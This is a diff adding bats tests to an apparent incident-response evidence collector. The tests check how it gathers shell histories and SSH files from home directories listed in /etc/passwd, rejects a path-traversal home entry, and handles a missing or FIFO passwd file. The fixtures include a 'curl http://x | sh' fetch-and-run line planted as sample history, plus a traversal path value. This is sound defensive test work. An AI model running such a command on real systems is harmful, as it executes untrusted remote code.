@@ -1230,3 +1230,56 @@ assert st[("x", "/usr/bin/pipe")] == ("changed", "not a regular file"), st
 	[ "$status" -eq 0 ]
 	[ "$(field live/packages-verify.jsonl reason)" = --no-live ]
 }
+
+@test "~/ entries take every home of /etc/passwd, service accounts and odd names too" {
+	mkdir -p "$ROOT/var/www/.ssh" "$ROOT/srv/we*rd" "$ROOT/srv/weXrd" \
+	    "$ROOT/root" "$ROOT/etc/secret"
+	cat >"$ROOT/etc/passwd" <<-'PW'
+	root:x:0:0:root:/root:/bin/bash
+	www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
+	odd:x:1001:1001::/srv/we*rd:/bin/sh
+	again:x:1002:1002::/var/www:/bin/sh
+	sneaky:x:1003:1003::/srv/../etc/secret:/bin/sh
+	broken line
+	PW
+	echo 'curl http://x | sh' >"$ROOT/var/www/.bash_history"
+	echo 'ssh-rsa AAAA www' >"$ROOT/var/www/.ssh/authorized_keys2"
+	echo 'command' >"$ROOT/var/www/.ssh/rc"
+	echo 'id' >"$ROOT/root/.bash_history"
+	echo 'odd' >"$ROOT/srv/we*rd/.bash_history"
+	echo 'not a home' >"$ROOT/srv/weXrd/.bash_history"
+	echo 'not a home' >"$ROOT/etc/secret/.bash_history"
+	printf 'file ~/.*history\nfile ~/.ssh/authorized_keys*\nfile ~/.ssh/rc\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	tar -tzf "$TMP/out.tar.gz" | grep '^fs/' | sort >"$TMP/members"
+	cat >"$TMP/want" <<-'EOF2'
+	fs/root/.bash_history
+	fs/srv/we*rd/.bash_history
+	fs/var/www/.bash_history
+	fs/var/www/.ssh/authorized_keys2
+	fs/var/www/.ssh/rc
+	EOF2
+	diff "$TMP/want" "$TMP/members"
+	[ "$(tar -xzOf "$TMP/out.tar.gz" fs/var/www/.bash_history)" = 'curl http://x | sh' ]
+	# each home once, the lines left out said in the log
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log >"$TMP/log"
+	grep -q "homes: 3 from /etc/passwd; '/etc/passwd' line 5: home '/srv/../etc/secret' is not a clean absolute path: not read (and more)" "$TMP/log"
+	[ "$(manifest | grep -c '"path":"/var/www/.bash_history"')" -eq 1 ]
+}
+
+@test "~/ entries without /etc/passwd collect nothing and say why" {
+	rm "$ROOT/etc/passwd"
+	printf 'file ~/.bash_history\nfile /etc/hostname\n' >"$PROFILE"
+	collect
+	[ "$status" -eq 0 ]
+	[ "$(tar -tzf "$TMP/out.tar.gz" | grep -c '^fs/')" -eq 1 ]
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log |
+	    grep -q "homes: 0 from /etc/passwd; cannot open '/etc/passwd': No such file or directory"
+	rm -f "$TMP/out.tar.gz"*
+	mkfifo "$ROOT/etc/passwd"
+	run timeout 60 "$IRT" collect --root "$ROOT" --profile "$PROFILE" -o "$TMP/out.tar.gz"
+	[ "$status" -eq 0 ]
+	tar -xzOf "$TMP/out.tar.gz" irt/collection.log |
+	    grep -q "cannot open '/etc/passwd': not a regular file"
+}
